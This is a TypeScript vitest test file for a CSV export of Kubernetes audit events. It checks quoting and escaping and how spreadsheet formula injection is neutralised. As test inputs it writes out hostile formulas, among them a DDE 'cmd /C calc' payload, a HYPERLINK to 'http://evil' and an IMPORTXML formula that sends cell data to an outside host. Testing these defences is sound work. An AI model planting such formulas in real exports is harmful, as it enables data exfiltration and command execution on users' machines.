import { describe, expect, test } from "vitest";
import { AUDIT_CSV_COLUMNS, auditCsvHeader, auditEventsToCsv, csvField } from "@/lib/audit/csv";
import type { TStoredAuditEvent } from "@/lib/audit/list";

const event = (over: Partial<TStoredAuditEvent> = {}): TStoredAuditEvent => ({
  id: 7,
  actionId: "a1b2c3",
  phase: "outcome",
  outcome: "succeeded",
  cluster: "default",
  action: "node.drain",
  targetKind: "Node",
  target: "worker-1",
  actorKind: "user",
  actorId: "u1",
  actorName: "ops@example.com",
  actorRole: "operator",
  sourceIp: "10.0.0.1",
  userAgent: "Mozilla/5.0",
  reason: "disk failed",
  gateOverride: null,
  plan: null,
  results: null,
  k8sStatus: null,
  message: "drained 3 pods",
  at: new Date("2026-01-31T08:00:00.123Z"),
  pending: false,
  ...over,
});

/** A minimal RFC 4180 parser, to check the output round-trips. */
const parseCsv = (text: string): string[][] => {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === "") quoted = true;
    else if (c === ",") {
      record.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      record.push(field);
      records.push(record);
      record = [];
      field = "";
      i++;
    } else field += c;
  }
  if (field !== "" || record.length) throw new Error("unterminated record");
  return records;
};

const cellOf = (csv: string, header: string, row = 1) => {
  const records = parseCsv(csv);
  const index = records[0]?.indexOf(header) ?? -1;
  expect(index).toBeGreaterThanOrEqual(0);
  return records[row]?.[index];
};

describe("csvField", () => {
  test("plain text, numbers and booleans pass through", () => {
    expect(csvField("worker-1")).toBe("worker-1");
    expect(csvField(42)).toBe("42");
    expect(csvField(true)).toBe("true");
    expect(csvField("")).toBe("");
  });

  test("null and undefined are empty", () => {
    expect(csvField(null)).toBe("");
    expect(csvField(undefined)).toBe("");
  });

  test("dates are ISO 8601 UTC", () => {
    expect(csvField(new Date("2026-01-31T08:00:00.123Z"))).toBe("2026-01-31T08:00:00.123Z");
  });

  test("commas, quotes and line breaks are quoted; quotes are doubled", () => {
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('"')).toBe('""""');
    expect(csvField("line1\nline2")).toBe('"line1\nline2"');
    expect(csvField("line1\r\nline2")).toBe('"line1\r\nline2"');
  });

  test("formula starts are neutralised with a single quote", () => {
    expect(csvField("=1+2")).toBe("'=1+2");
    expect(csvField("+1")).toBe("'+1");
    expect(csvField("-1")).toBe("'-1");
    expect(csvField("@SUM(A1:A2)")).toBe("'@SUM(A1:A2)");
    expect(csvField("\tcmd")).toBe("'\tcmd");
    expect(csvField("\rcmd")).toBe('"\'\rcmd"');
    expect(csvField('=HYPERLINK("http://evil","x")')).toBe('"\'=HYPERLINK(""http://evil"",""x"")"');
    expect(csvField("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
  });

  test("only the first character counts", () => {
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField("node-1")).toBe("node-1");
    expect(csvField(" =1")).toBe(" =1");
    expect(csvField("'=1")).toBe("'=1");
  });

  test("non-ASCII text is kept", () => {
    expect(csvField("Jürgen Ølsen 山田")).toBe("Jürgen Ølsen 山田");
  });
});

describe("auditEventsToCsv", () => {
  test("a header row naming every column, CRLF line ends", () => {
    const csv = auditEventsToCsv([]);
    expect(csv).toBe(`${AUDIT_CSV_COLUMNS.map((c) => c.header).join(",")}\r\n`);
    expect(csv).toBe(auditCsvHeader());
    expect(parseCsv(csv)[0]).toEqual([
      "id",
      "at",
      "actionId",
      "phase",
      "outcome",
      "cluster",
      "action",
      "targetKind",
      "target",
      "actorKind",
      "actorId",
      "actorName",
      "actorRole",
      "sourceIp",
      "userAgent",
      "reason",
      "gateOverride",
      "message",
      "plan",
      "results",
      "k8sStatus",
    ]);
  });

  test("one record per row, every record CRLF-terminated, same width as the header", () => {
    const csv = auditEventsToCsv([event(), event({ id: 6, phase: "intent", outcome: null })]);
    const records = parseCsv(csv);
    expect(records).toHaveLength(3);
    for (const record of records) expect(record).toHaveLength(AUDIT_CSV_COLUMNS.length);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(csv.split("\r\n")).toHaveLength(4);
  });

  test("values land in their columns; timestamps are ISO; nulls are empty", () => {
    const csv = auditEventsToCsv([event()]);
    expect(cellOf(csv, "id")).toBe("7");
    expect(cellOf(csv, "at")).toBe("2026-01-31T08:00:00.123Z");
    expect(cellOf(csv, "action")).toBe("node.drain");
    expect(cellOf(csv, "target")).toBe("worker-1");
    expect(cellOf(csv, "actorName")).toBe("ops@example.com");
    expect(cellOf(csv, "actorRole")).toBe("operator");
    expect(cellOf(csv, "outcome")).toBe("succeeded");
    expect(cellOf(csv, "gateOverride")).toBe("");
    expect(cellOf(csv, "plan")).toBe("");
  });

  test("an intent's outcome is empty, or 'pending' while it has no outcome row", () => {
    const csv = auditEventsToCsv([
      event({ phase: "intent", outcome: null, pending: false }),
      event({ phase: "intent", outcome: null, pending: true }),
    ]);
    expect(cellOf(csv, "outcome", 1)).toBe("");
    expect(cellOf(csv, "outcome", 2)).toBe("pending");
    expect(cellOf(csv, "phase", 2)).toBe("intent");
  });

  test("rows without the computed `pending` flag are accepted", () => {
    const { pending: _, ...row } = event({ phase: "intent", outcome: null });
    expect(cellOf(auditEventsToCsv([row]), "outcome")).toBe("");
  });

  test("JSON payloads with quotes, commas and newlines round-trip exactly", () => {
    const plan = JSON.stringify({ pods: [{ name: "db-0", evict: true }], note: 'a "b", c' }, null, 2);
    const k8sStatus = '{"kind":"Status","message":"pods \\"db-0\\" is forbidden","code":429}';
    const results = "[]";
    const csv = auditEventsToCsv([event({ plan, k8sStatus, results })]);
    expect(cellOf(csv, "plan")).toBe(plan);
    expect(cellOf(csv, "k8sStatus")).toBe(k8sStatus);
    expect(cellOf(csv, "results")).toBe(results);
  });

  test("hostile values from actors and Kubernetes are neutralised in every column", () => {
    const csv = auditEventsToCsv([
      event({
        actorName: '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
        reason: "+cmd",
        message: "-2+3",
        userAgent: "@evil",
        target: "\tworker",
      }),
    ]);
    expect(cellOf(csv, "actorName")).toBe('\'=IMPORTXML(CONCAT("http://x/?",A1),"//a")');
    expect(cellOf(csv, "reason")).toBe("'+cmd");
    expect(cellOf(csv, "message")).toBe("'-2+3");
    expect(cellOf(csv, "userAgent")).toBe("'@evil");
    expect(cellOf(csv, "target")).toBe("'\tworker");
    for (const record of parseCsv(csv).slice(1)) {
      for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  test("a reason with a line break stays one record", () => {
    const csv = auditEventsToCsv([event({ reason: "node gone\r\nsecond line", message: "x\ny" })]);
    const records = parseCsv(csv);
    expect(records).toHaveLength(2);
    expect(cellOf(csv, "reason")).toBe("node gone\r\nsecond line");
    expect(cellOf(csv, "message")).toBe("x\ny");
  });

  test("header: false gives records only, so streamed chunks concatenate into one file", () => {
    const a = [event({ id: 3 })];
    const b = [event({ id: 2 }), event({ id: 1 })];
    const streamed = auditEventsToCsv(a) + auditEventsToCsv(b, { header: false });
    expect(streamed).toBe(auditEventsToCsv([...a, ...b]));
    expect(auditEventsToCsv(b, { header: false }).startsWith("2,")).toBe(true);
    expect(auditEventsToCsv([], { header: false })).toBe("");
  });
});
